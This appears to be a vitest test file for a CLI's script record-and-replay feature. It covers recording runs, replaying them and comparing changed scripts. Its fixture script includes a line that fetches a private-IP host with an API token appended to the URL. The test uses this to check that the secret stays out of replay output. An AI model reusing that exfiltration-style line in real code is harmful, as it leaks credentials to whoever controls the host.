import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { temporaryDirectory } from '@upshot/local/temporary-directory';
import { runUpshot } from '@upshot/testing/run-upshot';
import { project, startSystem, type TestSystem } from '@upshot/testing/system';
import { afterAll, beforeAll, expect, it } from 'vitest';

/** Its secret goes out in a request that is refused; what it prints depends on clock and chance. */
const source = `const storage = require('storage');
storage.set('runs', (storage.get('runs') || 0) + 1);
console.log(new Date().toISOString(), Math.random(), activity.id);
try { fetch('http://10.0.0.1/' + variables.api_token) } catch (e) { console.log(e.message) }
console.log(activity.payload.deployment.webapps);
`;

let parts: AsyncDisposableStack;
let system: TestSystem;
let folder: string;
let run: string;

const upshot = (...args: string[]) => runUpshot(system.url, args, { env: { UPSHOT_PROJECT: project } });

beforeAll(async () => {
  parts = new AsyncDisposableStack();
  folder = parts.use(await temporaryDirectory()).path;
  system = parts.use(await startSystem({ workers: 1 }));
  const id = await system.addIntegration({ type: 'script', name: 'notify', events: ['*'], script: source });
  const variable = { name: 'api_token', value: 's3cret-of-a-test', is_sensitive: true };
  await system.call('POST', `/projects/${project}/integrations/${id}/variables`, variable);
});
afterAll(() => parts.disposeAsync());

it('script:record shows, orders and ends recording', async () => {
  const shown = async (...args: string[]) =>
    (await upshot('script:record', '--integration', 'notify', ...args)).stdout;
  expect(await shown()).toBe('notify: nothing is recorded; 0 cassettes of 0 KB kept\n');
  expect(await shown('--count', '3', '--until', '+1 hour')).toMatch(
    /^notify: 3 of 3 attempts are still to be/,
  );
  expect(await shown('--off')).toBe('notify: nothing is recorded; 0 cassettes of 0 KB kept\n');
  expect(await shown('--count', '1')).toContain('1 of 1');
  const without = await upshot('script:record', '--integration', 'notify', '--until', '+1 hour');
  expect(without).toMatchObject({
    code: 1,
    stderr: expect.stringContaining('--until takes --count') as string,
  });
  expect((await upshot('script:record')).stderr).toContain('--integration is required');
  expect((await upshot('script:record', '--integration', 'none', '--count', '1')).code).not.toBe(0);
});

it('a worker records as many runs as were ordered, and script:run --run replays one', async () => {
  const send = async (id: string, outcomes: number) => {
    const payload = { deployment: { webapps: ['web'] } };
    const { matched } = await system.post({ id, type: 'environment.push', state: 'complete', payload });
    await system.logged(outcomes);
    return matched[0]?.run ?? '';
  };
  run = await send('act1', 1);
  const later = await send('act2', 2);
  const replayed = await upshot('script:run', '--run', run);
  expect(replayed.stderr).toBe('');
  expect(replayed.stdout).toMatch(/✓ the same as recorded \(run \w+, attempt 1, .*; the same script\)\n$/);
  expect(replayed.stdout).not.toContain('s3cret');
  expect((await upshot('script:record', '--integration', 'notify')).stdout).toMatch(
    /nothing is recorded; 1 cassette of/,
  );
  const other = await upshot('script:run', '--run', later);
  expect(other.stderr).toContain('is not replayed: it was not recorded');
  expect(other.stderr).toContain('only a recorded run brings its own');
});

it('a changed script is compared with what the run did', async () => {
  const file = join(folder, 'notify.js');
  await writeFile(file, source.replace('|| 0) + 1', '|| 0) + 2'));
  const { code, stdout } = await upshot('script:run', file, '--run', run);
  expect(code).toBe(12);
  expect(stdout).toContain('  different: call 2, storageSet runs\n    value\n    - 1\n    + 2\n');
  const live = await upshot('script:run', file, '--run', run, '--respond', '200:ok');
  expect(live.stdout).not.toContain('as recorded');
});

it('script:test compares a changed script with recorded runs, exactly', async () => {
  const file = join(folder, 'changed.js');
  await writeFile(file, source.replace('activity.id)', '"id", activity.id)'));
  const { code, stdout } = await upshot(
    'script:test',
    file,
    '--integration',
    'notify',
    '--fail-on',
    'changed',
  );
  expect(stdout).toContain('0 same      2 changed      0 fixed      0 broken');
  expect(stdout).toContain('1 compared exactly (recorded), 1 by what the log knows');
  expect(code).toBe(12);
});
